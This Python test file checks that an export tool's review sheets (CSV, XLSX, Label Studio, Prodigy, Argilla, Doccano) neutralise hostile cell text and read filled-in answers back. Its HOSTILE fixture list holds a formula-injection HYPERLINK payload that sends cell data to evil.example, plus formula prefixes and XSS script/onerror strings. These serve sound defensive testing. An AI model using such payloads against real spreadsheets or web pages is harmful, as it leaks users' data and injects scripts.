"""Sheets of every format: hostile text is inert in them, nothing is lost, and what is filled in comes back."""

import csv
import json
import re
import sys
from contextlib import suppress
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from judgekit.errors import InputError
from judgekit.records import Label
from judgekit.review import Filled, Passage, ReviewUnit
from judgekit.review.cells import MOST_UNITS, cells, fit, guard, unguard
from judgekit.review.records import JudgeSaid
from judgekit.review.sheets import FORMATS, read

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "  +1+2",
    "-5 degrees",
    "@SUM(A1)",
    "\uff1dcmd",
    "\ttab first",
    "\n=1+1",
    "\u200b=1",
    "'quoted' at the start",
    'a "quoted" word, a comma;\na line\n=1+1\n\uff1d2\n\n-and one more',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"/><Choice value="supported"/>$html {{meta}} ]]>',
    "#N/A",
)


def a_unit(number=1, **told):
    told = {
        "question": "What?",
        "claim": "A claim.",
        "text": "One. Two [2]. Three.",
        "span": (5, 13),
        "markers": ("[2]",),
        "passages": (
            Passage(context_id="d2", text="Second.", rank=2, is_cited=True),
            Passage(context_id="d1", text="First.", title="Terms", doc_id="d", version="2026-03", rank=1),
        ),
        **told,
    }
    return ReviewUnit(export_id="x1", unit_id=f"u{number}", kind="verdict", side="answer", **told)


def a_whole(number=1):
    return ReviewUnit(
        export_id="x1",
        unit_id=f"s{number}",
        kind="sample",
        side="answer",
        question="What?",
        text="One. Two.",
        claims=("One.", "Two."),
        passages=(Passage(context_id="d1", text="First.", rank=1),),
    )


def hostile_units():
    return [
        a_unit(
            number,
            question=text,
            claim=text,
            text=text,
            span=(0, len(text)),
            markers=(text,),
            passages=(Passage(context_id=text, text=text, title=text, doc_id=text, version=text, rank=1),),
        )
        for number, text in enumerate(HOSTILE)
    ]


def rows_of(path):
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


# --- CSV ---------------------------------------------------------------------------------------


def test_a_csv_has_the_claim_and_what_to_fill_in_then_what_to_read(tmp_path):
    FORMATS["csv"].write([a_unit(), a_unit(2)], tmp_path / "s.csv")
    rows = rows_of(tmp_path / "s.csv")
    assert list(rows[0].items()) == list(
        {
            "unit_id": "u1",
            "claim": "A claim.",
            "verdict (supported / not_supported / cannot_tell)": "",
            "claim_ok (ok / not_in_answer / not_atomic / duplicate)": "",
            "evidence_id": "",
            "note": "",
            "question": "What?",
            "citations": "[2]",
            "answer": "One. >>Two [2].<< Three.",
            "evidence_1": "[d2] (cited, rank 2)\nSecond.",
            "evidence_2": "[d1] Terms (rank 1, document d, version 2026-03)\nFirst.",
            "reviewer": "",
            "minutes": "",
            "export_id": "x1",
        }.items()
    )
    assert [row["unit_id"] for row in rows] == ["u1", "u2"]


def test_whole_answers_come_with_their_claims_and_a_count_of_what_is_missing(tmp_path):
    FORMATS["csv"].write([a_whole()], tmp_path / "s.csv")
    (row,) = rows_of(tmp_path / "s.csv")
    assert list(row) == [
        *("unit_id", "claims", "verdict (supported / not_supported / cannot_tell)", "missed", "note"),
        *("question", "answer", "evidence_1", "reviewer", "minutes", "export_id"),
    ]
    assert (row["claims"], row["answer"]) == ("1. One.\n2. Two.", "One. Two.")


def test_a_visible_sheet_shows_the_judge_beside_the_rest(tmp_path):
    said = JudgeSaid(label=Label.CONTRADICTED, quotes=(("d2", "Sec"), ("d1", "Fir")), reason="why")
    FORMATS["csv"].write([a_unit(judge=said)], tmp_path / "s.csv")
    (row,) = rows_of(tmp_path / "s.csv")
    shown = {name: cell for name, cell in row.items() if name.startswith("judge_")}
    assert shown == {
        "judge_quote_1": "[d2] Sec",
        "judge_quote_2": "[d1] Fir",
        "judge_reason": "why",
        "judge_verdict": "contradicted",
    }


def test_the_file_is_what_spreadsheets_expect(tmp_path):
    FORMATS["csv"].write([a_unit(question="Größe\r\nzwei\x00\x1b[31m")], tmp_path / "s.csv")
    raw = (tmp_path / "s.csv").read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"unit_id","claim",')
    assert raw.endswith(b',"x1"\r\n')
    assert raw.count(b"\r\n") == 2
    (row,) = rows_of(tmp_path / "s.csv")
    assert row["question"] == "Größe\nzwei\ufffd\ufffd[31m"
    with pytest.raises(FileExistsError):
        FORMATS["csv"].write([], tmp_path / "s.csv")


_FORMULA = re.compile(r"[\s\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]")


def assert_inert(cell):
    assert not _FORMULA.match(cell), cell
    assert not any(_FORMULA.match(line) for line in cell.split("\n")), cell


def test_no_line_of_a_csv_can_be_a_formula_and_every_text_comes_back(tmp_path):
    units = hostile_units()
    FORMATS["csv"].write(units, tmp_path / "s.csv")
    for row, unit in zip(rows_of(tmp_path / "s.csv"), units, strict=True):
        for cell in row.values():
            assert_inert(cell)
        assert unguard(row["question"]) == unit.question
        assert unguard(row["claim"]) == unit.claim
        assert unguard(row["answer"]) == f">>{unit.text}<<"


def test_a_long_text_goes_on_in_further_cells_and_loses_nothing(tmp_path):
    long = "".join(f"{at} = {at};\n" for at in range(6_000)) + "=\n" * 40_000 + "\U0001f600" * 20_000
    unit = a_unit(text="x" * 40_000, span=None, passages=(Passage(context_id="d1", text=long), a_unit().passages[1]))
    FORMATS["csv"].write([unit, a_unit(2)], tmp_path / "s.csv")
    rows = rows_of(tmp_path / "s.csv")
    assert list(rows[0])[8:13] == ["answer", "answer_cont_2", "evidence_1", "evidence_1_cont_2", "evidence_1_cont_3"]
    first = [cell for name, cell in rows[0].items() if name.startswith("evidence_1")]
    assert "".join(map(unguard, first)) == f"[d1]\n{long}"
    assert rows[0]["answer"] + rows[0]["answer_cont_2"] == "x" * 40_000
    assert max(len(cell.encode("utf-16-le")) // 2 for row in rows for cell in row.values()) <= 32_767
    for cell in first:
        assert_inert(cell)
    assert [one.unit_id for one in read(tmp_path / "s.csv")] == ["u1", "u2"]


@given(st.text())
def test_what_is_guarded_is_no_formula_and_comes_back(text):
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in set("=+-@\t\r\n")


@given(st.text(st.sampled_from("ab \n=\U0001f600'"), max_size=300), st.integers(0, 3))
def test_the_cells_of_a_text_are_the_text_and_each_fits(text, times):
    long = text + text * 400 * times
    pieces = cells(long)
    assert "".join(map(unguard, pieces)) == long
    assert all(len(piece.encode("utf-16-le")) // 2 <= MOST_UNITS for piece in pieces)


@given(st.text(st.characters()))
def test_what_is_fit_holds_nothing_that_a_cell_cannot(text):
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", fit(text))
    assert json.loads(json.dumps(fit(text))) == fit(text)


# --- XLSX --------------------------------------------------------------------------------------


def test_a_workbook_holds_text_alone_lists_and_a_header_that_stays(tmp_path):
    units = hostile_units()
    FORMATS["xlsx"].write(units, tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    sheet = book["review"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    for row in sheet.iter_rows(values_only=True):
        for value in row:
            assert_inert(value or "")
    headings = [cell.value for cell in sheet[1]]
    lists = {rule.formula1: str(rule.sqref) for rule in sheet.data_validations.dataValidation}
    column = openpyxl.utils.get_column_letter(1 + headings.index("verdict (supported / not_supported / cannot_tell)"))
    last = len(units) + 1
    assert lists['"supported,not_supported,cannot_tell"'] == f"{column}2:{column}{last}"
    assert len(lists) == 2
    assert sheet.freeze_panes == "D2"
    assert all(cell.alignment.wrap_text for cell in sheet[2])
    assert sheet.column_dimensions["B"].width > 30
    assert "by the evidence alone" in book["how to"]["A1"].value


def test_a_workbook_that_was_filled_in_and_saved_again_comes_back(tmp_path):
    FORMATS["xlsx"].write([a_unit(1), a_unit(2), a_unit(3)], tmp_path / "s.xlsx")
    book = openpyxl.load_workbook(tmp_path / "s.xlsx")
    sheet = book["review"]
    at = {str(cell.value).partition(" ")[0]: cell.column for cell in sheet[1]}
    for row, told in (
        (2, {"verdict": "Supported ", "minutes": 1.5, "reviewer": "Ann", "evidence_id": "d2"}),
        (4, {"verdict": "NOT SUPPORTED", "claim_ok": "not-atomic", "note": "=two facts", "minutes": 2}),
    ):
        for name, value in told.items():
            sheet.cell(row, at[name]).value = value
            if name == "note":
                sheet.cell(row, at[name]).data_type = "s"
    book.move_sheet("how to", -1)
    book.save(tmp_path / "again.xlsx")
    assert read(tmp_path / "again.xlsx") == [
        Filled(
            unit_id="u1",
            export_id="x1",
            verdict="supported",
            evidence="d2",
            reviewer="Ann",
            minutes=1.5,
            status="done",
            where=f"{tmp_path}/again.xlsx: row 2",
        ),
        Filled(unit_id="u2", export_id="x1", where=f"{tmp_path}/again.xlsx: row 3"),
        Filled(
            unit_id="u3",
            export_id="x1",
            verdict="not_supported",
            claim_ok="not_atomic",
            note="=two facts",
            minutes=2,
            status="done",
            where=f"{tmp_path}/again.xlsx: row 4",
        ),
    ]


def test_what_is_no_workbook_or_no_sheet_of_ours_is_named(tmp_path):
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 and no more")
    with pytest.raises(InputError, match="no workbook that can be read"):
        read(tmp_path / "broken.xlsx")
    openpyxl.Workbook().save(tmp_path / "other.xlsx")
    with pytest.raises(InputError, match="no sheet with a column 'unit_id'"):
        read(tmp_path / "other.xlsx")


# --- annotation tools --------------------------------------------------------------------------


class Markup(HTMLParser):
    """The tags and the text of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.text = set(), ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        assert not attrs

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("form", ["label-studio", "prodigy"])
def test_html_for_annotators_has_no_markup_of_the_log(tmp_path, form):
    FORMATS[form].write(hostile_units(), tmp_path / "s.json")
    text = (tmp_path / "s.json").read_text(encoding="ascii")
    tasks = json.loads(text) if form == "label-studio" else [json.loads(line) for line in text.splitlines()]
    for task, hostile in zip(tasks, HOSTILE, strict=True):
        found = Markup(task["html"] if form == "prodigy" else task["data"]["html"])
        assert found.tags <= {"p", "small", "br", "b", "mark"}
        assert hostile.replace("\n", "") in found.text


def test_label_studio_tasks_hold_no_prediction_and_the_interface_fits_them(tmp_path):
    FORMATS["label-studio"].write([a_unit()], tmp_path / "s.json")
    (task,) = json.loads((tmp_path / "s.json").read_text(encoding="ascii"))
    assert list(task) == ["data"]
    assert "<mark>Two [2].</mark>" in task["data"]["html"]
    config = ET.parse(tmp_path / "s.config.xml").getroot()
    (shown,) = config.iter("HyperText")
    assert shown.get("value").removeprefix("$") in task["data"]
    verdict, claim_ok = config.iter("Choices")
    assert [choice.get("value") for choice in verdict] == ["supported", "not_supported", "cannot_tell"]
    assert [choice.get("hotkey") for choice in verdict] == ["1", "2", "3"]
    assert (verdict.get("required"), claim_ok.get("required")) == ("true", None)
    assert {control.get("toName") for control in [verdict, claim_ok, *config.iter("TextArea")]} == {shown.get("name")}
    FORMATS["label-studio"].write([a_whole()], tmp_path / "w.json")
    assert [one.get("name") for one in ET.parse(tmp_path / "w.config.xml").getroot().iter("Number")] == ["missed"]


def choice(name, value):
    return {"from_name": name, "to_name": "unit", "type": "choices", "value": {"choices": [value]}}


def label_studio_export(*annotations, unit="u1"):
    return {"id": 12, "data": {"unit_id": unit, "export_id": "x1", "html": "..."}, "annotations": list(annotations)}


def test_annotations_of_label_studio_come_back_each_with_who_gave_it(tmp_path):
    note = {"from_name": "note", "to_name": "unit", "type": "textarea", "value": {"text": ["a", "b"]}}
    missed = {"from_name": "missed", "to_name": "unit", "type": "number", "value": {"number": 2}}
    export = [
        label_studio_export(
            {"completed_by": {"id": 1, "email": "ann@x.org"}, "result": [choice("verdict", "supported")]},
            {"completed_by": 7, "lead_time": 90, "result": [choice("claim_ok", "duplicate"), missed, note]},
            {"completed_by": 8, "was_cancelled": True, "result": [choice("verdict", "supported")]},
        ),
        label_studio_export(unit="u2"),
    ]
    (tmp_path / "export.json").write_text(json.dumps(export), encoding="utf-8")
    place = f"{tmp_path}/export.json: entry 1 (task 12)"
    told = {"unit_id": "u1", "export_id": "x1", "where": place}
    assert read(tmp_path / "export.json") == [
        Filled(**told, verdict="supported", reviewer="ann@x.org", status="done"),
        Filled(**told, claim_ok="duplicate", missed=2, note="a and b", reviewer="7", minutes=1.5, status="done"),
        Filled(**told, reviewer="8", note="skipped in Label Studio", status="deferred"),
    ]


def test_the_small_export_of_label_studio_comes_back_too(tmp_path):
    rows = [{"unit_id": "u1", "export_id": "x1", "html": "..", "id": 3, "annotator": 2, "verdict": "cannot_tell"}]
    (tmp_path / "min.json").write_text(json.dumps(rows), encoding="utf-8")
    (one,) = read(tmp_path / "min.json")
    assert (one.unit_id, one.verdict, one.reviewer, one.status) == ("u1", "cannot_tell", "2", "done")


@pytest.mark.parametrize(
    "task",
    [
        label_studio_export({"completed_by": 1, "result": [choice("human_verdict", "supported")]}),
        {"unit_id": "u1", "export_id": "x1", "annotator": 2, "human_verdict": "not_supported", "note": "n"},
        {"id": "u1", "fields": {}, "responses": {"human_verdict": [{"user_id": "a", "value": "supported"}]}},
    ],
)
def test_a_verdict_under_another_name_is_not_read_as_put_off(tmp_path, task):
    (tmp_path / "export.json").write_text(json.dumps([task]), encoding="utf-8")
    with pytest.raises(InputError, match="no 'verdict'; is it 'human_verdict'\\? call it 'verdict'"):
        read(tmp_path / "export.json")


def test_argilla_records_fit_their_settings_and_are_plain_text(tmp_path):
    FORMATS["argilla"].write([*hostile_units(), a_unit(99)], tmp_path / "s.json")
    records = json.loads((tmp_path / "s.json").read_text(encoding="ascii"))
    layout = json.loads((tmp_path / "s.settings.json").read_text(encoding="ascii"))
    names = {field["name"] for field in layout["fields"]}
    assert all(record["fields"].keys() <= names for record in records)
    assert {field["settings"]["use_markdown"] for field in layout["fields"]} == {False}
    assert [field["name"] for field in layout["fields"] if field["required"]] == ["text"]
    assert records[-1] == {
        "id": "u99",
        "fields": {
            "question": "What?",
            "claim": "A claim.",
            "citations": "[2]",
            "text": "One. >>Two [2].<< Three.",
            "evidence": "[d2] (cited, rank 2)\nSecond.\n\n[d1] Terms (rank 1, document d, version 2026-03)\nFirst.",
        },
        "metadata": {"export_id": "x1"},
    }
    (verdict, *_) = layout["questions"]
    assert [option["value"] for option in verdict["settings"]["options"]] == [
        "supported",
        "not_supported",
        "cannot_tell",
    ]


def test_responses_of_argilla_come_back_by_user(tmp_path):
    record = {
        "id": "u1",
        "fields": {"text": "..."},
        "metadata": {"export_id": "x1"},
        "suggestions": {},
        "responses": {
            "verdict": [{"value": "supported", "user_id": "a-1"}, {"value": "not_supported", "user_id": "b-2"}],
            "note": [{"value": "why", "user_id": "b-2"}],
        },
    }
    untouched = {"id": "u2", "fields": {"text": "..."}, "metadata": {}, "responses": {}}
    (tmp_path / "export.json").write_text(json.dumps([record, untouched]), encoding="utf-8")
    found = read(tmp_path / "export.json")
    assert [(one.unit_id, one.verdict, one.reviewer, one.note) for one in found] == [
        ("u1", "supported", "a-1", None),
        ("u1", "not_supported", "b-2", "why"),
    ]


def test_prodigy_tasks_leave_its_own_keys_alone_and_its_answers_come_back(tmp_path):
    FORMATS["prodigy"].write([a_unit(number) for number in range(5)], tmp_path / "s.jsonl")
    tasks = [json.loads(line) for line in (tmp_path / "s.jsonl").read_text(encoding="ascii").splitlines()]
    assert tasks[0].keys() == {"html", "options", "unit_id", "export_id", "meta"}
    assert [option["id"] for option in tasks[0]["options"]] == ["supported", "not_supported", "cannot_tell"]
    answers = [
        {"answer": "accept", "accept": ["not_supported"], "note": "why", "_annotator_id": "set-ann"},
        {"answer": "ignore", "accept": []},
        {"answer": "reject", "accept": ["supported"]},
        {"answer": "accept", "accept": []},
        {},
    ]
    done = "".join(json.dumps({**task, **answer}) + "\n" for task, answer in zip(tasks, answers, strict=True))
    (tmp_path / "out.jsonl").write_text(done, encoding="utf-8")
    found = read(tmp_path / "out.jsonl")
    assert [(one.verdict, one.status, one.note) for one in found] == [
        ("not_supported", "done", "why"),
        (None, "deferred", "ignore in Prodigy"),
        (None, "deferred", "reject in Prodigy"),
        (None, "blank", None),
        (None, "blank", None),
    ]
    assert (found[0].reviewer, found[0].where) == ("set-ann", f"{tmp_path}/out.jsonl:1")


def test_doccano_texts_come_back_with_their_label_and_comments(tmp_path):
    FORMATS["doccano"].write([a_unit(1), a_unit(2)], tmp_path / "s.jsonl")
    assert json.loads((tmp_path / "s.labels.json").read_text(encoding="ascii"))[1] == {
        "text": "not_supported",
        "suffix_key": "2",
    }
    first, second = [json.loads(line) for line in (tmp_path / "s.jsonl").read_text(encoding="ascii").splitlines()]
    assert first["text"].startswith("QUESTION\nWhat?\n\nCLAIM\nA claim.\n\nCITATIONS\n[2]\n\nANSWER\nOne. >>Two [2].<<")
    assert first["label"] == []
    done = [{**first, "id": 4, "label": ["supported"], "Comments": ["why"]}, {**second, "id": 5, "Comments": []}]
    (tmp_path / "ann.jsonl").write_text("".join(f"{json.dumps(one)}\n" for one in done), encoding="utf-8")
    assert [(one.unit_id, one.verdict, one.note, one.status) for one in read(tmp_path / "ann.jsonl")] == [
        ("u1", "supported", "why", "done"),
        ("u2", None, None, "blank"),
    ]
    (tmp_path / "two.jsonl").write_text(json.dumps({**done[0], "label": ["a", "supported"]}) + "\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"two.jsonl:1: verdict: 'a and supported' cannot be read"):
        read(tmp_path / "two.jsonl")


@pytest.mark.parametrize("form", [form for form in FORMATS if form != "html"])  # a page hands back another file
def test_a_sheet_just_written_reads_as_blank(tmp_path, form):
    path = tmp_path / f"s{FORMATS[form].suffix}"
    FORMATS[form].write([a_unit(1), a_unit(2)], path)
    assert FORMATS[form].recognises(path)
    assert {one.status for one in read(path)} <= {"blank"}


def test_what_a_review_page_hands_back_is_known_by_its_keys(tmp_path):
    line = {"unit_id": "u1", "export_id": "x1", "status": "done", "verdict": "supported", "minutes": 0.5}
    (tmp_path / "review.jsonl").write_text(json.dumps(line) + "\n", encoding="utf-8")
    (one,) = read(tmp_path / "review.jsonl")
    assert (one.unit_id, one.verdict, one.minutes, one.status) == ("u1", "supported", 0.5, "done")


@pytest.mark.parametrize(
    ("name", "text", "told"),
    [
        (
            "cut.json",
            '[{"data": {"unit_id": "u1"}',
            r"cut.json: not JSON \(.*\); import the file as the tool exported it",
        ),
        ("odd.json", "[3]", "odd.json: entry 1: not a JSON object"),
        ("cut.jsonl", '{"unit_id": "u1", "text": "", "label": []}\n{"unit', r"cut.jsonl:2: not JSON"),
        ("page.html", "<!doctype html>", "page.html: is the page itself"),
        ("other.json", '[{"a": 1}]', "no `unit_id` in it"),
        ("sheet.config.xml", "<View/>", "no `unit_id` in it"),
    ],
)
def test_a_file_that_is_no_sheet_is_told_what_is_wrong_with_it(tmp_path, name, text, told):
    (tmp_path / name).write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=told):
        read(tmp_path / name)


def test_without_openpyxl_a_workbook_names_the_extra(tmp_path, monkeypatch):
    FORMATS["xlsx"].write([a_unit()], tmp_path / "s.xlsx")
    monkeypatch.setitem(sys.modules, "openpyxl", None)  # what Python finds when it is not installed
    for action in (lambda: read(tmp_path / "s.xlsx"), lambda: FORMATS["xlsx"].write([], tmp_path / "t.xlsx")):
        with pytest.raises(InputError, match=r"pip install 'judgekit\[xlsx\]'; or give --format csv"):
            action()


NESTED = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-3, 3), st.floats(), st.text(max_size=5)),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(
                [*"xy", "unit_id", "id", "data", "fields", "responses", "annotations", "result", "value", "verdict"]
            ),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@pytest.mark.parametrize(
    "shape",
    [
        lambda odd: {"data": {"unit_id": "u1"}, "annotations": odd},
        lambda odd: {"data": {"unit_id": "u1"}, "annotations": [{"result": odd, "completed_by": odd}]},
        lambda odd: {"id": odd, "fields": {}, "responses": odd, "metadata": odd},
        lambda odd: {"id": "u1", "fields": {}, "responses": {"verdict": odd}},
        lambda odd: {"unit_id": odd, "html": "", "options": [], "answer": odd, "accept": odd},
        lambda odd: {"unit_id": "u1", "text": "", "label": [odd], "Comments": odd},
        lambda odd: odd,
    ],
)
@settings(max_examples=40, deadline=None)
@given(odd=NESTED)
def test_json_of_any_shape_is_read_or_refused(tmp_path_factory, shape, odd):
    path = tmp_path_factory.getbasetemp() / "odd.json"
    path.write_text(json.dumps([shape(odd)]), encoding="utf-8")
    with suppress(InputError):
        assert isinstance(read(path), list)
